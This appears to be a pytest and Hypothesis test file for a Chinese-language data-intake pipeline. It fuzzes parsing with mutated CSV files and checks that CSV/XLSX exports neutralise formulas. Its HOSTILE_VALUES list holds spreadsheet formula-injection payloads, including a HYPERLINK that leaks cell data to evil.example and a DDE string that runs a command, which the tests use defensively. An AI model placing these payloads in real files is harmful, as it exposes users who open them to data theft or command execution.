"""Bad input at volume: the intake never crashes; a file is loaded (every row accounted for)
or rejected with a recorded reason, and the ledger holds one row per distinct content.

Hypothesis drives the SQL normalisation builders (evaluated in DuckDB) and the reader over
random bytes; a seeded corpus of ~200 mutated submissions (bytes flipped, lines dropped or
doubled, re-encoded, delimiters swapped, truncated, headers duplicated...) goes through
``ingest_file`` as a clerk's files would.
"""

from __future__ import annotations

import csv
import random
import tempfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ingestion import normalise as n
from ingestion.load import ingest_file
from ingestion.reading import Limits, RejectedFile, check_size, read_submission, sha256_of
from scenetrack import pipeline
from scenetrack.config import Paths
from scenetrack.export import export
from scenetrack.warehouse import RAW_DDL
from tests.conftest import EVENT_COLUMNS, event, write_csv

SETTINGS = settings(
    max_examples=150,
    deadline=None,
    derandomize=True,  # CI runs the same examples every time
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

UNITS = ["", "元", "万元", "万", "亿元", "亿", "美元", "%"]
FULLWIDTH = "０１２３４５６７８９．，－／"
VALUE_TEXT = st.one_of(
    st.text(max_size=30),
    st.text(alphabet="0123456789.,-/年月日 " + FULLWIDTH + "万亿元¥￥", max_size=20),
    st.builds(
        lambda num, unit, pad: f"{pad}{num}{unit}{pad}",
        st.one_of(st.integers(-(10**20), 10**20), st.floats(allow_nan=True)),
        st.sampled_from(UNITS),
        st.sampled_from(["", " ", "\u3000", "\t"]),
    ),
    st.builds(
        lambda d, fmt: d.strftime(fmt),
        st.dates(),
        st.sampled_from(["%Y-%m-%d", "%Y/%m/%d", "%Y年%m月%d日", "%Y年%m月", "%Y%m%d", "%Y-%m"]),
    ),
    st.integers(0, 99999).map(str),  # Excel serial days and not-quite ones
)


@pytest.fixture(scope="module")
def sql() -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    yield con
    con.close()


@SETTINGS
@given(value=VALUE_TEXT)
def test_normalisation_sql_never_fails_and_stays_in_its_domain(sql, value: str) -> None:
    v = "t.v"
    row = sql.execute(
        f"select {n.amount_yuan(v)}, {n.amount_ok(v)}, {n.clean_text(v)}, "
        f"{n.date_value(v)}, {n.date_precision(v)}, {n.date_in_range(v)}, "
        f"{n.halfwidth(v)}, {n.lookup_key(v)}, {n.city_key(v)}, {n.excel_serial_date(v)} "
        "from (select ?::varchar as v) t",
        [value],
    ).fetchone()
    amount, ok, clean, day, precision, in_range, *_ = row
    assert amount is None or amount >= 0
    assert ok == (clean is None or amount is not None)
    if day is not None:
        assert precision in ("day", "month") and in_range is not None


MAGIC = [b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"PK\x03\x04", b"{", b"%PDF", b"\xd0\xcf"]
HEADER = ",".join(EVENT_COLUMNS).encode()


@SETTINGS
@given(
    prefix=st.sampled_from(MAGIC),
    header=st.sampled_from([b"", HEADER + b"\n", HEADER.replace(b",", b"\t") + b"\r\n"]),
    body=st.binary(max_size=3000),
)
def test_the_reader_reads_or_rejects_random_bytes(
    prefix: bytes, header: bytes, body: bytes
) -> None:
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "submission.csv"
        path.write_bytes(prefix + header + body)
        limits = Limits(max_bytes=1 << 20)
        try:
            size = check_size(path, limits)
            sub = read_submission(path, sha256_of(path), size, None, limits)
        except RejectedFile as exc:
            assert exc.reason and exc.message  # a reasoned rejection
            return
        assert "__line" in sub.table.column_names
        assert sub.table.num_rows == len(set(sub.table.column("__line").to_pylist()))


def _mutations(rng: random.Random, text: str) -> bytes:
    """One random mutation of a valid submission (text), as bytes."""
    lines = text.splitlines(keepends=True)
    kind = rng.randrange(14)
    if kind == 0:  # flip random bytes
        data = bytearray(text.encode())
        for _ in range(rng.randint(1, 20)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        return bytes(data)
    if kind == 1:  # truncate anywhere (mid-character, mid-quote)
        data = text.encode()
        return data[: rng.randrange(len(data))]
    if kind == 2:  # drop or double random lines (the header included)
        out = [ln for ln in lines for _ in range(rng.choice([0, 1, 1, 1, 2]))]
        return "".join(out).encode()
    if kind == 3:  # re-encode
        enc = rng.choice(["gb18030", "utf-16", "utf-8-sig", "big5", "latin-1", "utf-32"])
        return text.encode(enc, errors="replace")
    if kind == 4:  # another delimiter (or a wrong one)
        return text.replace(",", rng.choice(["\t", ";", "|", "，", " "])).encode()
    if kind == 5:  # duplicate header column
        head = lines[0].rstrip("\r\n").split(",")
        dup = rng.choice(head)
        lines[0] = ",".join([*head, dup]) + "\n"
        return "".join(lines).encode()
    if kind == 6:  # unbalanced quotes
        i = rng.randrange(1, len(lines))
        lines[i] = '"' + lines[i]
        return "".join(lines).encode()
    if kind == 7:  # NUL bytes and control characters inside cells
        data = text.replace(",", ",\x00", rng.randint(1, 5)).replace("\n", "\x0b\n", 3)
        return data.encode()
    if kind == 8:  # ragged rows: cells added or removed
        out = [lines[0]]
        for ln in lines[1:]:
            cells = ln.rstrip("\n").split(",")
            cells = cells[: rng.randint(1, len(cells) + 2)] + ["x"] * rng.randint(0, 2)
            out.append(",".join(cells) + "\n")
        return "".join(out).encode()
    if kind == 9:  # CRLF / CR line endings
        return text.replace("\n", rng.choice(["\r\n", "\r"])).encode()
    if kind == 10:  # shuffled columns, header with it
        rows = [ln.rstrip("\n").split(",") for ln in lines]
        order = list(range(len(rows[0])))
        rng.shuffle(order)
        return "".join(",".join(r[i] for i in order if i < len(r)) + "\n" for r in rows).encode()
    if kind == 11:  # title rows above the header, blank lines in between
        return ("2025年 场景项目报送\n\n,,,\n" + text.replace("\n", "\n\n", 3)).encode()
    if kind == 12:  # a JSON-looking or binary start
        return rng.choice([b"{", b"PK\x03\x04", b"\x00\x01"]) + text.encode()
    data = text.encode()  # kind 13: a huge cell
    return data.replace(b",", b"," + b"9" * rng.randint(1000, 50000) + b",", 1)


@pytest.fixture(scope="module")
def mutated_corpus(tmp_path_factory: pytest.TempPathFactory, submissions: list[Path]) -> list[Path]:
    """~200 mutated submissions from valid generated files (seeded: the same every run),
    some of them twice under another name (one ledger row per distinct content)."""
    out = tmp_path_factory.mktemp("mutated")
    rng = random.Random(20261125)
    bases = []
    for f in submissions:
        if f.name != "scan.csv":
            lines = f.read_text(encoding="utf-8").splitlines(keepends=True)
            bases.append("".join(lines[:80]))
    files = []
    for i in range(200):
        data = _mutations(rng, rng.choice(bases))
        if rng.random() < 0.3:  # mutations compound
            data = _mutations(rng, data.decode("utf-8", errors="replace"))
        path = out / f"m{i:03d}.csv"
        path.write_bytes(data)
        files.append(path)
    for i in range(0, 200, 25):  # the same content sent again under another name
        twin = out / f"again_{i:03d}.csv"
        twin.write_bytes(files[i].read_bytes())
        files.append(twin)
    return files


def test_mutated_corpus_every_file_loaded_or_rejected_with_a_reason(
    mutated_corpus: list[Path], tmp_path: Path
) -> None:
    con = duckdb.connect(str(tmp_path / "work.duckdb"))
    con.execute(RAW_DDL)
    receipts = []
    try:
        for f in mutated_corpus:
            receipts.append(ingest_file(con, f, tmp_path / "archive"))
        for f in mutated_corpus[:20]:  # sent again: duplicates, never loaded twice
            receipts.append(ingest_file(con, f, tmp_path / "archive"))
        ledger = con.execute(
            "select file_sha256, status, layout, rows_read, rows_loaded, rows_quarantined, reason, "
            "(select count(*) from raw.events e where e.source_file_sha256 = l.file_sha256) "
            "+ (select count(*) from raw.capabilities c "
            "   where c.source_file_sha256 = l.file_sha256), "
            # a row is listed once per failing column and reason: count its lines
            "(select count(distinct source_line) from raw.quarantine q "
            " where q.source_file_sha256 = l.file_sha256) "
            "from raw.file_ledger l"
        ).fetchall()
    finally:
        con.close()
    statuses = {r.status for r in receipts}
    assert statuses <= {"loaded", "duplicate", "rejected"}
    for r in receipts:
        if r.status == "rejected":  # a reason the clerk can act on, not a masked crash
            assert r.reason and r.reason_code and r.reason_code != "unreadable", r
        if r.status == "loaded":
            assert r.rows_read == r.rows_loaded + r.rows_quarantined, r
    distinct = {sha256_of(f) for f in mutated_corpus}
    assert {row[0] for row in ledger} == distinct and len(ledger) == len(distinct)
    for sha, status, layout, read, loaded, quarantined, reason, raw, quar in ledger:
        if status == "loaded":
            assert read == loaded + quarantined and quar == quarantined, sha
            assert raw == loaded or layout == "register", sha  # a 台账 row: one event per stage
        else:
            assert status == "rejected" and reason and raw == 0 and quar == 0, sha
    # the corpus really is bad input: both outcomes occur, and quarantine is exercised
    assert sum(r.status == "rejected" for r in receipts) >= 10
    assert sum(r.rows_quarantined > 0 for r in receipts) >= 10


# --------------------------------------------------------------------------- values out
# Clerks' text reaches the exports (issue 17, findings 3 and 4): a value starting with = + - @
# (or a tab or carriage return) must never become a live formula, and control characters must
# never break the XLSX writer. Expected values are computed here, independently of the code.

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "智能\x01巡检\x07项目",
    "\x1b[31m红色\x1b[0m",
    "正常的项目名称",
    "a=b 不是公式",
]


def _control_free(text: str) -> str:
    return "".join(ch for ch in text if ord(ch) >= 0x20 or ch in "\t\n\r")


def _csv_expected(text: str) -> str:
    clean = _control_free(text)
    return "'" + clean if clean.startswith(FORMULA_STARTS) else clean


def _published_with(tmp: Path, values: list[str | None]) -> Paths:
    """A home whose published file holds one table of ``values`` (and a number column)."""
    p = Paths(tmp / "home").ensure()
    con = duckdb.connect(str(p.published_db))
    try:
        con.execute("create table main.hostile (i integer, text varchar)")
        con.executemany("insert into main.hostile values (?, ?)", list(enumerate(values)))
    finally:
        con.close()
    return p


def _exported(p: Paths, out: Path) -> tuple[list, list]:
    export(p, "csv", ["hostile"], out)
    export(p, "xlsx", ["hostile"], out)
    with (out / "hostile.csv").open(encoding="utf-8-sig", newline="") as f:
        csv_rows = list(csv.reader(f))[1:]
    ws = load_workbook(out / "hostile.xlsx")["hostile"]
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    return csv_rows, cells


@SETTINGS
@given(
    values=st.lists(
        st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_VALUES)), min_size=1, max_size=8
    )
)
def test_exports_never_write_a_live_formula_or_a_control_character(values: list[str]) -> None:
    with tempfile.TemporaryDirectory() as d:
        p = _published_with(Path(d), values)
        csv_rows, cells = _exported(p, Path(d) / "out")
    assert [int(r[0]) for r in csv_rows] == list(range(len(values)))
    for value, (_, text), cell in zip(values, csv_rows, cells, strict=True):
        assert text == _csv_expected(value)
        clean = _control_free(value)
        if not clean:  # an empty string is an empty cell
            assert cell.value is None
            continue
        assert cell.data_type == "s"  # a text cell, never a formula ("f")
        # XML turns every line end into a line feed when the sheet is read back
        assert cell.value == clean.replace("\r\n", "\n").replace("\r", "\n")
        assert bool(cell.quotePrefix) == clean.startswith(FORMULA_STARTS)


@pytest.mark.e2e
def test_hostile_values_travel_from_a_submission_to_safe_exports(tmp_path: Path) -> None:
    """Formulas and control characters in a clerk's file: loaded with the control characters
    removed (and said so in the receipt), published, and exported as inert text."""
    rows = [
        event("合肥", f"H{i}", "opportunity", "enter", "2025-03-01", supplier=value)
        | {"project_name": value}
        for i, value in enumerate(HOSTILE_VALUES)
    ]
    home = Paths(tmp_path / "home").ensure()
    [receipt] = pipeline.ingest_paths(home, [write_csv(tmp_path / "hostile.csv", rows)])
    assert (receipt.rows_loaded, receipt.rows_quarantined) == (len(rows), 0)
    removed = [n for n in receipt.notes if "control characters" in n]
    assert removed and "project_name (2)" in removed[0] and "supplier (2)" in removed[0]
    pipeline.run(home)
    out = tmp_path / "out"
    export(home, "xlsx", ["fct_project_lifecycle"], out)
    export(home, "csv", ["fct_project_lifecycle"], out)
    ws = load_workbook(out / "fct_project_lifecycle.xlsx")["fct_project_lifecycle"]
    header = [c.value for c in ws[1]]
    names = {
        row[header.index("project_id")].value: row[header.index("project_name")]
        for row in ws.iter_rows(min_row=2)
    }
    with (out / "fct_project_lifecycle.csv").open(encoding="utf-8-sig", newline="") as f:
        by_id = {r["project_id"]: r for r in csv.DictReader(f)}
    for i, value in enumerate(HOSTILE_VALUES):
        # the intake trims blanks (a tab or CR at the edge) and removes control characters
        stored = _control_free(value).strip(" \t\r\n\u3000")
        cell = names[f"H{i}"]
        assert cell.data_type == "s" and cell.value == stored
        assert bool(cell.quotePrefix) == stored.startswith(FORMULA_STARTS)
        assert by_id[f"H{i}"]["project_name"] == _csv_expected(stored)
        assert by_id[f"H{i}"]["supplier"] == _csv_expected(stored)
